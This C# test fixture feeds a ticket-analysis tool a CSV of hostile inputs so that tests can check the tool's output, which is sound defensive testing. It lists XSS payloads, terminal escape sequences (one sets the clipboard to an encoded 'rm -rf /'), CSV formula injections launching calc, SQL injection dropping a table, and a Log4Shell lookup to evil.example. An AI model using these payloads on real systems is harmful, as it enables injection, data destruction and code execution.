using System.Text;

namespace Earshot.Tests.EndToEnd;

/// <summary>Attacks and personal data in tickets and in the names of columns, analysed once for all tests that look at what came out.</summary>
public sealed class HostileWorkspace : IDisposable
{
    internal static readonly string[] Attacks =
    [
        "<script>alert(1)</script> my invoice is wrong",
        "<img src=x onerror=alert(2)> my invoice is wrong",
        "</script></style></title><svg onload=alert(3)> the parcel is late",
        "javascript:alert(4) <a href=\"javascript:alert(5)\">refund</a> is missing",
        "\e[2J\e[31mthe app crashes\e]0;owned\a when I log in",
        "\e]8;;http://evil.example\e\\click\e]8;;\e\\ the app crashes",
        "\e]52;c;cm0gLXJmIC8=\a the app crashes on start",
        "\u009b2J the app crashes \u009d52;c;cm0=\u009c always",
        "=cmd|'/c calc'!A1",
        "@SUM(1+1)*cmd|'/c calc'!A0",
        "+1+1 refund is missing",
        "-2+3+cmd|' /C calc'!D2",
        "\t=HYPERLINK(\"http://evil.example\",\"refund\")",
        "my invoice \u202Egnorw si\u202C is reversed \u2066x\u2069",
        "pass\u200Bword res\u200Det lin\u2060k \uFEFFdead",
        "'); DROP TABLE tickets; -- the refund is missing",
        "\"; COPY tickets TO '/tmp/owned'; -- the refund is missing",
        new string('w', 5000) + " is a very long word in a ticket",
        "line one of my invoice\r\nerror: line two pretends\rto be ours\u2028and three",
        "{{7*7}} ${jndi:ldap://evil.example/a} %s%n the invoice is wrong",
    ];

    internal static readonly string[] Personal = ["anna.smith@example.com", "+49 170 1234567", "4111 1111 1111 1111", "DE89370400440532013000"];

    internal static readonly string LongName = new('n', 3000);

    internal static readonly string[] Names =
    [
        "message", "ticket_id", "text", "TEXT", "", "a'); DROP TABLE tickets; --", "he said \"no\"", "🎉 emoji", "$.x[0]", "a.b/c~d\\e", "\e[31mred", "=1+1",
        "\u202Eflip", "filename", "file_row_number", "_file", "_created_at", "_line", "attributes", "select", "  blanks  ", LongName,
    ];

    public HostileWorkspace() => Run = Analyse(Folder);

    internal WorkingFolder Folder { get; } = new();

    /// <summary>What the analysis wrote.</summary>
    internal ProgramRun Run { get; }

    public void Dispose() => Folder.Dispose();

    /// <summary>Analyses the attacks into the workspace w.</summary>
    internal static ProgramRun Analyse(WorkingFolder folder, params string[] more)
    {
        StringBuilder csv = new();
        csv.AppendJoin(',', Names.Select(Quoted)).Append('\n');
        for (int row = 0; row < Attacks.Length + 40; row++)
        {
            string text = row < Attacks.Length ? Attacks[row] : $"{Tickets.Message(row)} {Personal[row % 4]}";
            csv.AppendJoin(',', Names.Select((_, column) => Quoted(column == 0 ? text : row == 17 ? $"v{column}" : column == 7 ? Personal[row % 4] : $"{row}.{column}"))).Append('\n');
        }

        csv.Append(",").AppendJoin(',', Names.Skip(1).Select(_ => Personal[0])).Append('\n'); // no text: rejected, with its excerpt
        folder.Write("tickets in.csv", csv.ToString());
        return folder.Succeed(["analyze", "tickets in.csv", "--source", "tickets", "--map", "text=message,id=,product=,title=,customer=,created_at=,source=", "--clusters", "5", "--workspace", "w", .. more]);
    }

    private static string Quoted(string cell) => "\"" + cell.Replace("\"", "\"\"") + "\"";
}
